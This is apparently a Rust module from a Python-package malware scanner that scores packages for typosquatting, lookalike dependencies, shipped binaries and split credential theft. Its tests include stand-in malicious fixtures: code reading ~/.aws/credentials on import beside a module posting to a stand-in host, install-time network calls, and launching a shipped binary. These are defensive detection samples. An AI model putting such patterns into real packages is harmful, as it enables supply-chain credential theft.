//! Package-level scores: the worst file, raised by what only the package as a whole shows.
//!
//! # The model
//!
//! **malware** is `1 − (1 − worst file) · Π(1 − wᵢ)` over the package contributions:
//! - **the name** (WH300 typosquat or WH301 impersonation, whichever is stronger: a copy of a
//!   popular module under a lookalike name already is a typosquat). A lookalike name alone is a
//!   hint, 0.1–0.2 by how typo-like it is; a typo-named copy of the popular project's module
//!   weighs 0.7 (a fork-style name shipping it, 0.35: alone not even suspicious).
//! - **a required lookalike** (WH303), the strongest one: 0.3 alone, 0.5 when the package's own
//!   name imitates a popular project too (a chain of lookalikes, with the payload a dependency
//!   away).
//! - **native binaries** (WH302), the strongest one: an executable named like a text, image or
//!   source file weighs 0.4; a plain compiled program in an sdist only 0.05, because popular
//!   sdists vendor launchers, bootloaders and test fixtures (8 of the 250 benign dev packages).
//! - **a pickled payload** (WH304), the strongest one: a data file that is a pickle calling
//!   `os.system`, `subprocess.*`, `exec` or `eval` when loaded weighs 0.85 (0.1 among tests,
//!   where pickle scanners keep such fixtures).
//! - **a direct reference** (WH100) in the top-level `pyproject.toml` or `setup.cfg`, the
//!   strongest one: a build requirement or dependency fetched as an archive from a server that
//!   is neither the index nor a source forge weighs 0.6, 0.8 at a bare address or plain http
//!   (build requirements never reach the metadata the index checks; pip installs them first).
//! - **combinations** ([`PACKAGE_COMBINATIONS`]) of a package signal with code evidence in other
//!   files, which is where a typosquat's payload is: a lookalike name together with a medium code
//!   signal ([`EARLY_CODE_SIGNAL`]) in install- or import-time code (0.5, enough with the name to
//!   block; 0.3 when the name is only built on the popular one, as honest wrappers' names are),
//!   code that starts a compiled program shipped in the sdist (0.35), and a copy of a popular
//!   project's module (WH301) whose requirements hold a lookalike (WH303), 0.35: the repackaged
//!   SDK whose only change is a dependency swapped for a lookalike carrying the payload; and a
//!   credential or stealer-target read in one file with a network send in another, both in
//!   install- or import-time code (0.5): a theft split by role across modules.
//!
//! **securityRisk** is the worst file's, raised to the package malware score; **obfuscated** is
//! the worst file's. Every package contribution is returned as a [`Contribution`].

use wheelhound_analysis::{ExecContext, FileAnalysis, Finding};

use crate::{Combination, Contribution, FileScores, round};

/// Code evidence at least this strong, in code that runs at install or import time, is what
/// turns a lookalike name from a hint into a typosquat with a payload.
pub const EARLY_CODE_SIGNAL: f64 = 0.3;

/// WH300 weighs this much for typo-like names (typos, doubled letters, changed digits) and
/// less for names built on the popular one.
pub const TYPO_NAME_WEIGHT: f64 = 0.2;
/// Weight of `combo:lookalike-with-payload` when the name is only built on a popular one.
pub const FORK_NAME_COMBINATION_WEIGHT: f64 = 0.3;

/// The package-level combinations, in the order they are checked.
pub const PACKAGE_COMBINATIONS: &[Combination] = &[
    Combination {
        id: "combo:surveillance-with-persistence",
        description: "a keyboard hook or screen, camera or microphone capture, and an autostart entry, in shipped code of one package",
        weight: 0.5,
    },
    Combination {
        id: "combo:lookalike-with-payload",
        description: "a name imitating a popular project and a medium code signal in code that runs at install or import time",
        weight: 0.5,
    },
    Combination {
        id: "combo:copy-requires-lookalike",
        description: "a copy of a popular project's module under a lookalike name that requires another lookalike, so the payload is one install away",
        weight: 0.35,
    },
    Combination {
        id: "combo:runs-shipped-binary",
        description: "code that starts or loads a compiled program shipped in the source distribution",
        weight: 0.35,
    },
    Combination {
        id: "combo:steal-and-send-across-files",
        description: "credential or stealer-target access in one file and a network send in another, both in code that runs at install or import time",
        weight: 0.5,
    },
];

/// The scores of one package.
#[derive(Clone, Debug, Default)]
pub struct PackageScores {
    /// Likelihood the package is malicious.
    pub malware: f64,
    /// Risk the package's capabilities pose.
    pub security_risk: f64,
    /// Degree of obfuscation.
    pub obfuscated: f64,
    /// The package-level contributions (file contributions stay with their files), strongest
    /// first.
    pub contributions: Vec<Contribution>,
}

fn strongest(findings: &[Finding], filter: impl Fn(&Finding) -> bool) -> Option<&Finding> {
    findings
        .iter()
        .filter(|f| filter(f))
        .max_by(|a, b| a.severity.total_cmp(&b.severity))
}

fn signal_move(finding: &Finding) -> Contribution {
    Contribution {
        score: "malware",
        rule: finding.rule.to_owned(),
        location: finding.location(),
        weight: finding.severity,
        reason: format!("{}: {}", finding.name, finding.message),
    }
}

/// The strongest finding of any file that `filter` keeps.
fn strongest_in_files(
    files: &[(FileAnalysis, FileScores)],
    filter: impl Fn(&Finding) -> bool,
) -> Option<&Finding> {
    files
        .iter()
        .flat_map(|(analysis, _)| analysis.findings.iter())
        .filter(|f| filter(f))
        .max_by(|a, b| a.severity.total_cmp(&b.severity))
}

/// The strongest finding of any file in code that runs at install or import time.
fn early_code_signal(files: &[(FileAnalysis, FileScores)]) -> Option<&Finding> {
    strongest_in_files(files, |f| {
        matches!(f.context, ExecContext::Install | ExecContext::Import)
    })
}

/// A process-start finding whose command names a shipped compiled program, or a ctypes load
/// of it while the package installs or loads (a DLL's entry point runs like a program's).
fn launch_of<'a>(files: &'a [(FileAnalysis, FileScores)], binary: &Finding) -> Option<&'a Finding> {
    let file_name = binary.path.rsplit('/').next().unwrap_or(&binary.path);
    // Short names (`run`, `a`) appear in any command; only distinctive ones identify the file.
    if file_name.chars().count() < 4 {
        return None;
    }
    files
        .iter()
        .flat_map(|(analysis, _)| analysis.findings.iter())
        .find(|f| {
            (f.rule == "WH120" || f.has_tag("native-load"))
                && f.context != ExecContext::TestOrDocs
                && (f.message.contains(file_name) || f.snippet.contains(file_name))
        })
}

/// A remote-access trojan's modules: one watches the user (WH210), another plants the
/// package in an autostart location (WH150 `autostart`). Tests and docs do not count.
fn surveillance_with_persistence(
    files: &[(FileAnalysis, FileScores)],
) -> Option<(&Finding, &Finding)> {
    let shipped = |f: &Finding| f.context != ExecContext::TestOrDocs;
    let watch = strongest_in_files(files, |f| shipped(f) && f.rule == "WH210")?;
    let persist = strongest_in_files(files, |f| {
        shipped(f) && f.rule == "WH150" && f.has_tag("autostart")
    })?;
    Some((watch, persist))
}

/// Malware split by role: one module collects credentials or a stealer's targets, another
/// sends, and the package runs both while it installs or loads (`__init__` starting
/// `_sync.run`, which hands what it read to `_gh.upload`). The file-level steal-and-send
/// needs both in one file; libraries read such files and talk to servers when asked, not
/// while loading.
fn steal_and_send_across_files(
    files: &[(FileAnalysis, FileScores)],
) -> Option<(&Finding, &Finding)> {
    let early = |f: &Finding| matches!(f.context, ExecContext::Install | ExecContext::Import);
    let steal = strongest_in_files(files, |f| {
        early(f)
            && f.rule == "WH140"
            && (f.has_tag("stealer-target") || f.has_tag("credential-file"))
            && f.message.starts_with("reads ")
            && f.severity >= 0.15
    })?;
    let send = strongest_in_files(files, |f| {
        early(f)
            && f.rule == "WH130"
            && (f.has_tag("net-send") || f.has_tag("net-dns"))
            && f.path != steal.path
    })?;
    Some((steal, send))
}

/// Scores a package from its analysed files and its package-level findings
/// (`wheelhound_analysis::package_signals`).
pub fn score_package(files: &[(FileAnalysis, FileScores)], signals: &[Finding]) -> PackageScores {
    let worst = files.iter().map(|(_, s)| s.malware).fold(0.0, f64::max);
    let mut contributions = Vec::new();

    let name = strongest(signals, |f| matches!(f.rule, "WH300" | "WH301"));
    if let Some(name) = name {
        contributions.push(signal_move(name));
    }
    if let Some(binary) = strongest(signals, |f| f.rule == "WH302") {
        contributions.push(signal_move(binary));
    }
    if let Some(dependency) = strongest(signals, |f| f.rule == "WH303") {
        contributions.push(signal_move(dependency));
    }
    if let Some(pickle) = strongest(signals, |f| f.rule == "WH304") {
        contributions.push(signal_move(pickle));
    }
    if let Some(reference) = strongest(signals, |f| f.rule == "WH100") {
        contributions.push(signal_move(reference));
    }

    for combination in PACKAGE_COMBINATIONS {
        let evidence = match combination.id {
            "combo:lookalike-with-payload" => {
                name.zip(early_code_signal(files).filter(|f| f.severity >= EARLY_CODE_SIGNAL))
            }
            "combo:surveillance-with-persistence" => surveillance_with_persistence(files),
            "combo:copy-requires-lookalike" => strongest(signals, |f| f.rule == "WH301")
                .zip(strongest(signals, |f| f.rule == "WH303")),
            "combo:runs-shipped-binary" => signals
                .iter()
                .filter(|f| f.rule == "WH302" && f.context != ExecContext::TestOrDocs)
                .find_map(|binary| launch_of(files, binary).map(|launch| (binary, launch))),
            "combo:steal-and-send-across-files" => steal_and_send_across_files(files),
            _ => None,
        };
        if let Some((signal, code)) = evidence {
            // A name built on a popular one (`python-x`, `x2`) is how many honest wrappers and
            // forks are named too; only typo-like names and copies take the full weight.
            let weight = if signal.rule == "WH300" && signal.severity < TYPO_NAME_WEIGHT {
                FORK_NAME_COMBINATION_WEIGHT
            } else {
                combination.weight
            };
            contributions.push(Contribution {
                score: "malware",
                rule: combination.id.to_owned(),
                location: code.location(),
                weight,
                reason: format!(
                    "{} ({} and {})",
                    combination.description,
                    signal.location(),
                    code.location()
                ),
            });
        }
    }
    contributions.sort_by(|a, b| b.weight.total_cmp(&a.weight));

    let keep = contributions.iter().fold(1.0 - worst, |keep, c| {
        keep * (1.0 - c.weight.clamp(0.0, 1.0))
    });
    let malware = round(1.0 - keep);
    let security_risk = files
        .iter()
        .map(|(_, s)| s.security_risk)
        .fold(malware, f64::max);
    let obfuscated = files.iter().map(|(_, s)| s.obfuscated).fold(0.0, f64::max);
    PackageScores {
        malware,
        security_risk: round(security_risk),
        obfuscated: round(obfuscated),
        contributions,
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
    #![allow(clippy::indexing_slicing)]
    use super::*;
    use crate::score_file;
    use wheelhound_analysis::{AnalysisOptions, PackageMember, analyze_python, package_signals};

    fn file(path: &str, code: &str) -> (FileAnalysis, FileScores) {
        let analysis = analyze_python(path, code.as_bytes(), &AnalysisOptions::default());
        let scores = score_file(&analysis);
        (analysis, scores)
    }

    fn signals(name: &str, members: &[(&str, &[u8])]) -> Vec<Finding> {
        let members: Vec<PackageMember<'_>> = members
            .iter()
            .map(|(path, data)| PackageMember {
                path,
                data,
                size: data.len() as u64,
            })
            .collect();
        package_signals(&members, Some(name))
    }

    const MEDIUM_SETUP: &str = "import urllib.request\nfrom setuptools import setup\nurllib.request.urlopen('https://example.invalid/ping')\nsetup(name='x')\n";

    #[test]
    fn without_package_signals_the_worst_file_decides() {
        let files = [
            file("x-1/x/a.py", "x = 1\n"),
            file("x-1/setup.py", MEDIUM_SETUP),
        ];
        let scores = score_package(&files, &[]);
        assert_eq!(scores.malware, files[1].1.malware);
        assert!(scores.contributions.is_empty());
    }

    #[test]
    fn a_required_lookalike_weighs_more_under_a_lookalike_name() {
        let files = [file("x-1/x/a.py", "x = 1\n")];
        let requires: &[u8] = b"reqeusts>=2\nsix\n\n[test]\npytset\n";
        let plain = signals(
            "quiet-tool",
            &[("quiet-tool-1/quiet_tool.egg-info/requires.txt", requires)],
        );
        let dependency = plain.iter().find(|f| f.rule == "WH303").unwrap();
        assert!(dependency.message.contains("`reqeusts`"), "{dependency:?}");
        assert_eq!(dependency.line, 1);
        assert!(
            plain.iter().all(|f| !f.message.contains("pytset")),
            "extras are not installed by default: {plain:?}"
        );
        let alone = score_package(&files, &plain);
        assert!(alone.malware < 0.4, "{alone:?}");
        let chained = signals(
            "reqeusts-oauth",
            &[(
                "reqeusts-oauth-1/PKG-INFO",
                b"Metadata-Version: 2.1\nName: reqeusts-oauth\nRequires-Dist: reqeusts\n"
                    as &[u8],
            )],
        );
        let chained = score_package(&files, &chained);
        assert!(chained.malware > alone.malware, "{chained:?}");
        // Popular requirements are never judged.
        let popular = signals(
            "quiet-tool",
            &[(
                "quiet-tool-1/quiet_tool.egg-info/requires.txt",
                b"requests\nnumpy\n" as &[u8],
            )],
        );
        assert!(popular.iter().all(|f| f.rule != "WH303"), "{popular:?}");
    }

    #[test]
    fn a_copy_that_requires_a_lookalike_is_malicious() {
        // The words of a popular SDK reordered, its module shipped, and its core dependency
        // swapped for another reordering of a popular name.
        let copy: &[(&str, &[u8])] = &[
            (
                "python-aliyun-sdk-kms-1/PKG-INFO",
                b"Metadata-Version: 2.1\nName: python-aliyun-sdk-kms\nRequires-Dist: python-aliyun-sdk-core\n",
            ),
            ("python-aliyun-sdk-kms-1/aliyunsdkkms/__init__.py", b""),
        ];
        let found = signals("python-aliyun-sdk-kms", copy);
        let scores = score_package(&[], &found);
        assert!(scores.malware >= crate::MALICIOUS_THRESHOLD, "{scores:?}");
        assert!(
            scores
                .contributions
                .iter()
                .any(|c| c.rule == "combo:copy-requires-lookalike"),
            "{scores:?}"
        );
        // The same copy with the real dependency is a fork, not a delivery.
        let fork: &[(&str, &[u8])] = &[
            (
                "python-aliyun-sdk-kms-1/PKG-INFO",
                b"Metadata-Version: 2.1\nName: python-aliyun-sdk-kms\nRequires-Dist: aliyun-python-sdk-core\n",
            ),
            ("python-aliyun-sdk-kms-1/aliyunsdkkms/__init__.py", b""),
        ];
        let scores = score_package(&[], &signals("python-aliyun-sdk-kms", fork));
        assert!(scores.malware < 0.5, "{scores:?}");
    }

    #[test]
    fn a_lookalike_name_alone_is_a_hint() {
        let files = [file("reqeusts-1/reqeusts/__init__.py", "x = 1\n")];
        let scores = score_package(&files, &signals("reqeusts", &[]));
        assert!(scores.malware < 0.25, "{scores:?}");
        assert_eq!(scores.contributions[0].rule, "WH300");
    }

    #[test]
    fn a_lookalike_name_with_install_time_code_is_malicious() {
        let files = [file("reqeusts-1/setup.py", MEDIUM_SETUP)];
        assert!(files[0].1.malware < 0.7, "{:?}", files[0].1);
        let early = early_code_signal(&files).unwrap();
        assert!(early.severity >= EARLY_CODE_SIGNAL, "{early:?}");
        let scores = score_package(&files, &signals("reqeusts", &[]));
        assert!(scores.malware >= crate::MALICIOUS_THRESHOLD, "{scores:?}");
        assert!(
            scores
                .contributions
                .iter()
                .any(|c| c.rule == "combo:lookalike-with-payload")
        );
        // The same code under an original name stays what the file says.
        let alone = score_package(&files, &signals("my-original-tool", &[]));
        assert_eq!(alone.malware, files[0].1.malware);
    }

    #[test]
    fn run_time_code_does_not_combine_with_the_name() {
        let files = [file(
            "reqeusts-1/reqeusts/util.py",
            "import os\ndef f():\n    os.system('uname -a')\n",
        )];
        let scores = score_package(&files, &signals("reqeusts", &[]));
        assert!(scores.malware < 0.4, "{scores:?}");
    }

    #[test]
    fn impersonation_alone_is_malicious() {
        let members: &[(&str, &[u8])] = &[
            (
                "aliababcloud_tea_openapi-1/PKG-INFO",
                b"Name: aliababcloud_tea_openapi\n",
            ),
            (
                "aliababcloud_tea_openapi-1/alibabacloud_tea_openapi/__init__.py",
                b"",
            ),
        ];
        let found = signals("aliababcloud_tea_openapi", members);
        let scores = score_package(&[], &found);
        assert!(scores.malware >= crate::MALICIOUS_THRESHOLD, "{scores:?}");
        // The name counts once: impersonation already is a typosquat.
        assert_eq!(
            scores
                .contributions
                .iter()
                .filter(|c| c.rule == "WH300" || c.rule == "WH301")
                .count(),
            1
        );
    }

    #[test]
    fn a_theft_split_across_two_modules_that_run_while_loading() {
        let reader = file(
            "t-1/t/_collect.py",
            "import os\ndata = open(os.path.expanduser('~/.aws/credentials')).read()\n",
        );
        let sender = file(
            "t-1/t/_ship.py",
            "import requests\nrequests.post('https://x.example.invalid/c', data={'d': 1})\n",
        );
        let reader_code =
            "import os\ndata = open(os.path.expanduser('~/.aws/credentials')).read()\n";
        let scores = score_package(&[reader, sender], &[]);
        assert!(
            scores
                .contributions
                .iter()
                .any(|c| c.rule == "combo:steal-and-send-across-files"),
            "{scores:?}"
        );
        // A client that sends when called, beside a module reading the same file on import,
        // is what cloud SDKs look like.
        let client = file(
            "t-1/t/_ship.py",
            "import requests\ndef ship(d):\n    requests.post('https://x.example.invalid/c', data=d)\n",
        );
        let scores = score_package(&[file("t-1/t/_collect.py", reader_code), client], &[]);
        assert!(
            !scores
                .contributions
                .iter()
                .any(|c| c.rule == "combo:steal-and-send-across-files"),
            "{scores:?}"
        );
    }

    #[test]
    fn code_that_starts_a_shipped_binary() {
        let elf: &[u8] = b"\x7fELF\x02\x01\x01\x00";
        let found = signals(
            "my-original-tool",
            &[
                ("t-1/PKG-INFO", b"Name: my-original-tool\n"),
                ("t-1/t/bin/helperd", elf),
            ],
        );
        let files = [file(
            "t-1/t/__init__.py",
            "import subprocess, os\nsubprocess.Popen([os.path.join(os.path.dirname(__file__), 'bin', 'helperd')])\n",
        )];
        let scores = score_package(&files, &found);
        assert!(
            scores
                .contributions
                .iter()
                .any(|c| c.rule == "combo:runs-shipped-binary"),
            "{scores:?}"
        );
        // A shipped binary nobody starts is only a hint.
        let quiet = score_package(&[file("t-1/t/__init__.py", "x = 1\n")], &found);
        assert!(quiet.malware < 0.1, "{quiet:?}");
    }

    #[test]
    fn code_that_loads_a_shipped_binary_through_ctypes_while_importing() {
        let mut pe = vec![0u8; 0x100];
        pe[..2].copy_from_slice(b"MZ");
        pe[0x3c] = 0x80;
        pe[0x80..0x84].copy_from_slice(b"PE\0\0");
        let found = signals(
            "my-original-tool",
            &[
                ("t-1/PKG-INFO", b"Name: my-original-tool\n"),
                ("t-1/t/terminate.dll", &pe),
            ],
        );
        let loads = |code: &str| {
            score_package(&[file("t-1/t/unicode.py", code)], &found)
                .contributions
                .iter()
                .any(|c| c.rule == "combo:runs-shipped-binary")
        };
        assert!(loads(
            "import ctypes, os\nlib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'terminate.dll'))\nlib.envir()\n"
        ));
        // Loaded when a function asks for it, or a library of the system: what bindings do.
        assert!(!loads(
            "import ctypes, os\ndef load():\n    return ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'terminate.dll'))\n"
        ));
        assert!(!loads("import ctypes\nlibc = ctypes.CDLL('libc.so.6')\n"));
    }
}
